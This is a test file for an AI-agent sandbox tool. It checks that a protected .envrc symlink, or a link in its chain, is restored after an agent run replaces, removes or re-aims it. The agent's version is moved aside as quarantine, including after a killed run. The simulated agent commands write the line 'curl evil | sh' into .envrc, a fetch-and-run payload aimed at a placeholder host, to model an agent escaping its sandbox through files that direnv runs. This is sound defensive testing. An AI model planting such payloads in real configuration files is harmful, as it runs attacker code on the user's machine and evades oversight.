// A deny_write path that is itself a symbolic link (an .envrc pointing into a
// folder of env files): the sandboxes protect its target (a mount lands
// there), and the link stays in a folder the agent may write. The end of the
// run puts each such link back and moves aside what the agent left in its
// place (lib/paths/protected-links.ts), on both backends. Control: the same
// commands outside leave the agent's file where your shell's direnv reads it.
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { lstatSync, mkdirSync, readFileSync, readlinkSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { BIN, cli, needs, tempHome, writeFile } from '../helpers.js';

describe('deny_write links: put back at the end of the run, what stood there moved aside (real bwrap and Docker)', needs('native', 'docker'), () => {
  const t = tempHome();
  after(() => t.cleanup());
  const fresh = (name: string) => {
    const proj = join(t.dir, name);
    writeFile(join(proj, 'envdir', 'real'), 'export SAFE=1\n');
    symlinkSync('envdir/real', join(proj, '.envrc'));
    return proj;
  };
  writeFile(join(t.sbHome, 'agents', 'pl.toml'), '[filesystem]\ndeny_write = [".envrc"]\n');
  const replace = 'rm .envrc && echo "curl evil | sh" > .envrc';

  for (const [backend, flags] of [['native', []], ['docker', ['--docker-sandbox', 'true']]] as const) {
    test(`${backend}: a replaced link is put back and the agent's file moved aside; (unnamed) a link re-aimed elsewhere too; control: outside, the replacement stays`, { timeout: 120_000 }, async () => {
      const proj = fresh(`proj-${backend}`);
      const r = await cli(['agent', 'run', '--silent', '--profile', 'pl', ...flags, '--', 'sh', '-c', replace], { env: t.env, cwd: proj, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      assert.equal(readlinkSync(join(proj, '.envrc')), 'envdir/real');
      assert.equal(readFileSync(join(proj, '.envrc.stashbase-quarantine'), 'utf8'), 'curl evil | sh\n');
      assert.equal(readFileSync(join(proj, 'envdir', 'real'), 'utf8'), 'export SAFE=1\n');
      assert.match(r.stderr, new RegExp(`^warning: the agent replaced ${join(proj, '.envrc').replaceAll('.', '\\.')}, a symbolic link to envdir/real that deny_write protects: the link is back; what it left there was renamed ${join(proj, '.envrc.stashbase-quarantine').replaceAll('.', '\\.')} `, 'm'));
      // Not named: the link aimed at another file, and (a second run) removed outright.
      rmSync(join(proj, '.envrc.stashbase-quarantine'));
      const aimed = await cli(['agent', 'run', '--silent', '--profile', 'pl', ...flags, '--', 'sh', '-c', 'echo "curl evil | sh" > envdir/mine && ln -sfn envdir/mine .envrc'], { env: t.env, cwd: proj, timeoutMs: 90_000 });
      assert.equal(aimed.code, 0, aimed.stderr);
      assert.equal(readlinkSync(join(proj, '.envrc')), 'envdir/real');
      assert.equal(readlinkSync(join(proj, '.envrc.stashbase-quarantine')), 'envdir/mine');
      rmSync(join(proj, '.envrc.stashbase-quarantine'));
      const removed = await cli(['agent', 'run', '--silent', '--profile', 'pl', ...flags, '--', 'rm', '.envrc'], { env: t.env, cwd: proj, timeoutMs: 90_000 });
      assert.equal(removed.code, 0, removed.stderr);
      assert.equal(readlinkSync(join(proj, '.envrc')), 'envdir/real');
      assert.match(removed.stderr, /^warning: the agent removed .*\.envrc, a symbolic link to envdir\/real that deny_write protects: the link is back$/m);
    });
  }

  test("(review, round 33) native: a link the agent replaced in a run killed with SIGKILL is put back by the next run, and what it left moved aside; control: without a later run it stays the agent's", { timeout: 120_000 }, async () => {
    const proj = fresh('proj-killed');
    const child = spawn(process.execPath, [BIN, 'agent', 'run', '--silent', '--profile', 'pl', '--', 'sh', '-c', `${replace} && echo swapped && sleep 60`], { env: t.env, cwd: proj, stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.on('data', (d: Buffer) => (out += String(d)));
    for (let i = 0; i < 600 && !out.includes('swapped'); i++) await new Promise((res) => setTimeout(res, 100));
    assert.equal(out, 'swapped\n');
    child.kill('SIGKILL');
    await new Promise((res) => child.on('close', res));
    // The control: the kill left the agent's file where your direnv reads it.
    assert.equal(lstatSync(join(proj, '.envrc')).isSymbolicLink(), false);
    const r = await cli(['agent', 'run', '--silent', '--', 'true'], { env: t.env, cwd: proj, timeoutMs: 90_000 });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(readlinkSync(join(proj, '.envrc')), 'envdir/real');
    assert.equal(readFileSync(join(proj, '.envrc.stashbase-quarantine'), 'utf8'), 'curl evil | sh\n');
    assert.match(r.stderr, /the agent made .*\.envrc, which your own tools would run or obey .* \(left by the killed run ags_[a-z2-7]{16}\)\n.*the agent removed .*\.envrc, a symbolic link to envdir\/real that deny_write protects: the link is back \(left by the killed run ags_[a-z2-7]{16}\)\n/);
  });

  test("(review, round 33) native: a link on the way to what the protected link leads to (.envrc -> cfg/envrc, cfg -> shared) re-aimed by the agent is put back too, and what it made there moved aside; control: outside, your direnv reads the agent's file through it", { timeout: 120_000 }, async () => {
    const proj = join(t.dir, 'proj-chain');
    writeFile(join(proj, 'shared', 'envrc'), 'export OK=1\n');
    symlinkSync('shared', join(proj, 'cfg'));
    symlinkSync('cfg/envrc', join(proj, '.envrc'));
    const aim = 'rm cfg && mkdir evil && echo "curl evil | sh" > evil/envrc && ln -s evil cfg';
    const r = await cli(['agent', 'run', '--silent', '--profile', 'pl', '--', 'sh', '-c', aim], { env: t.env, cwd: proj, timeoutMs: 90_000 });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(readlinkSync(join(proj, 'cfg')), 'shared');
    assert.equal(readFileSync(join(proj, '.envrc'), 'utf8'), 'export OK=1\n');
    assert.match(r.stderr, /the agent replaced .*\/cfg, a symbolic link to shared/);
    // The control: outside, the same re-aim gives your direnv the agent's file.
    rmSync(join(proj, 'evil'), { recursive: true, force: true });
    rmSync(join(proj, 'cfg.stashbase-quarantine'), { force: true });
    assert.equal(spawnSync('sh', ['-c', aim], { cwd: proj }).status, 0);
    assert.equal(readFileSync(join(proj, '.envrc'), 'utf8'), 'curl evil | sh\n');
  });

  test('control: the same replacement outside stashbase stays', () => {
    const proj = fresh('proj-outside');
    mkdirSync(join(proj, 'x'), { recursive: true });
    assert.equal(spawnSync('sh', ['-c', replace], { cwd: proj }).status, 0);
    assert.equal(lstatSync(join(proj, '.envrc')).isSymbolicLink(), false);
    assert.equal(readFileSync(join(proj, '.envrc'), 'utf8'), 'curl evil | sh\n');
  });
});
